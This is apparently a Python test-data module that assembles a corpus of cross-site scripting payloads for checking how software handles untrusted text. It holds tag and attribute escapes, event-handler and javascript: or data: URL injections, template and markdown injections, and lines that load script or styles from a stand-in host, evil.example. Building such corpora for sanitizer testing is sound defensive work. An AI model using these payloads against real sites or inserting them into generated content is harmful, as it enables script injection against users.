"""150 strings that would run as script where text is taken for markup."""

#: Ways out of where a text may stand: an attribute, a tag, a script, a comment, a list of data.
WAYS_OUT = (
    "",
    '">',
    "'>",
    "--><!-- -->",
    "</title></textarea></style></script>",
    "</option></select></table></svg></math>",
    '"}]}</script>',
    "\u2028*/\u2029",
)

#: What would run there.
SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt/x>alert(1)</sCrIpT >",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<input autofocus onfocus=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "<form action=javascript:alert(1)><button autofocus>x</button></form>",
    "<object data=javascript:alert(1)></object><embed src=data:text/html,x>",
    "<style>@import '//evil.example/x.css';*{background:url(//evil.example)}</style>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'><base href=//evil.example/>",
)

#: What is harmless as text and dangerous where it is an address, a template or a name.
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript://example.org/%0Aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "blob:https://example.org/1",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "https://good.example@evil.example/",
    "https://example.org/\"onmouseover='alert(1)",
    "https://example.org/?q=</a><script>alert(1)</script>",
    "feed:javascript:alert(1)",
)

OTHERS = (
    "{{ 7*7 }}{% load static %}{% debug %}",
    "${alert(1)}#{alert(1)}<%= alert(1) %>",
    "[x](javascript:alert(1))",
    "![x](javascript:alert(1))",
    "[x]: javascript:alert(1)\n[x]",
    "<javascript:alert(1)>",
    "[x](data:text/html,<script>alert(1)</script> 'title\" onclick=alert(1)')",
    "`<script>alert(1)</script>`\n\n    <img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "＜script＞alert(1)＜/script＞",
    "__proto__",
    "\u202e<gpj.exe>\u202c<script>alert(1)</script>",
)

CORPUS = tuple(
    dict.fromkeys([way + script for way in WAYS_OUT for script in SCRIPTS] + [*ADDRESSES, *OTHERS])
)
